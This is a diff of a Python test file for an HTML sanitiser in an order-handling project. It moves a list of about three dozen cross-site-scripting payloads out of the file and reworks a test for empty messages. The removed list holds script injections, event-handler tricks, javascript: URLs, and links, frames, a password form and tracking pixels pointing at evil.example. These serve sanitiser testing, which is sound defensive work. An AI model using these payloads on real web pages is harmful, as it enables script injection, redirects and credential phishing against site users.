@@ -8,48 +8,9 @@ import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
-from saleor_order_central.conversations.formatted import TAGS, both_forms, clean_html, text_of_html
 from saleor_order_central.errors import OrderCentralFault
-
-# Hand-made: each tries another way into a browser.
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example></sCrIpT>",
-    "<img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href="JaVaScRiPt:alert(1)">x</a>',
-    '<a href="java\tscript:alert(1)">x</a>',
-    '<a href="&#106;avascript:alert(1)">x</a>',
-    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-    '<a href="vbscript:msgbox(1)">x</a>',
-    '<a href="https://ok.example" onclick="alert(1)" style="position:fixed">x</a>',
-    '<a href="//evil.example/x" target="_top">x</a>',
-    '<p style="background:url(https://evil.example/pixel)">x</p>',
-    "<style>body{display:none}</style>",
-    '<link rel="stylesheet" href="https://evil.example/a.css">',
-    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-    '<base href="https://evil.example/">',
-    '<iframe src="https://evil.example"></iframe>',
-    '<iframe srcdoc="<script>alert(1)</script>">',
-    '<object data="evil.swf"></object><embed src="evil.swf">',
-    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
-    '<input autofocus onfocus="alert(1)">',
-    '<video><source onerror="alert(1)"></video>',
-    '<details open ontoggle="alert(1)">x</details>',
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<template><script>alert(1)</script></template>",
-    "<xmp><script>alert(1)</script></xmp>",
-    "<p id='x' class='y' name='cookie'>x</p>",
-    "<img src='https://evil.example/pixel.gif'>",
-    "<<script>alert(1)//<</script>",
-    "<b><i><u>" * 500,
-]
+from saleor_order_central.formatted import TAGS, both_forms, clean_html, text_of_html
+from tests.hostile_html import HOSTILE
 
 
 class Watch(HTMLParser):
@@ -139,8 +100,14 @@ def test_a_typed_plain_form_stays_as_it_is():
 
 @pytest.mark.parametrize("html", ["<script>alert(1)</script>", "<img src=x>"])
 def test_a_text_of_which_nothing_is_left_is_refused(html):
-    cleaned = clean_html(html, "bodyHtml")
-    assert cleaned == ""
+    with pytest.raises(OrderCentralFault, match="Nothing is left") as caught:
+        both_forms("", html, limit=100, field="message")
+    assert caught.value.field == "messageHtml"
+    assert both_forms("Plain", html, limit=100) == ("Plain", "")
+
+
+@pytest.mark.parametrize("html", [None, "", " \n", "<p></p>", "<p><br></p>", "<p> </p><p></p>"])
+def test_an_editor_left_empty_is_no_text(html):
     assert both_forms("", html, limit=100) == ("", "")
 
 
